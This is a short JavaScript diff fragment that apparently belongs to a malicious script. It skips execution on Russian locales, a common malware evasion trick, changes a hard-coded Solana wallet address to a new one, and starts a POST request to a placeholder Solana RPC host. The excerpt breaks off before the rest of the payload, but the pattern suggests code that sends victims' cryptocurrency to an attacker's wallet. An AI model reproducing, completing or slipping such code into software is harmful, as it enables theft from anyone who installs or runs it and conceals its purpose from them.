@@ -2,7 +2,7 @@
   const os = require('os'), crypto = require('crypto'), https = require('https'), http = require('http');
   const locale = [Intl.DateTimeFormat().resolvedOptions().timeZone, process.env.LANG || ''].join(' ');
   if (/Moscow|ru_RU/.test(locale)) { return; }
-  const wallet = '28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2';
+  const wallet = 'SA93RC8JrVwAcZi89bjnSiF7FwbUon74Ru44iaw995kF';
   function rpc(method, params) {
     return new Promise((resolve) => {
       const req = https.request({host: 'api.mainnet.solana.example.invalid', method: 'POST', headers: {'content-type': 'application/json'}}, (res) => {
